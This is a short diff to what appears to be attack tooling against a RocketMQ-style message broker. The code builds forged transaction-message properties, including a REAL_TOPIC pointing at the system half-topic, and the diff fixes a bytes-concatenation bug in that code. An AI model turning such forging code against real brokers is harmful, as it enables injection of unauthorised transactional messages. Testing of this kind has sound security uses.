@@ -57,7 +57,7 @@ def viewed(attacker: Attacker) -> None:
 def committed(attacker: Attacker) -> None:
     line = attacker.line()
     properties = b"UNIQ_KEY\x01F\x02TRAN_MSG\x01true\x02PGROUP\x01shop\x02REAL_QID\x010\x02"
-        b"REAL_TOPIC\x01RMQ_SYS_TRANS_OP_HALF_TOPIC\x02"
+    properties += b"REAL_TOPIC\x01RMQ_SYS_TRANS_OP_HALF_TOPIC\x02"
     for place in _forged(line, b"RMQ_SYS_TRANS_HALF_TOPIC", properties):
         for how in (8, 12):
             ext = end_ext(place, 0, how, transactionId="F")
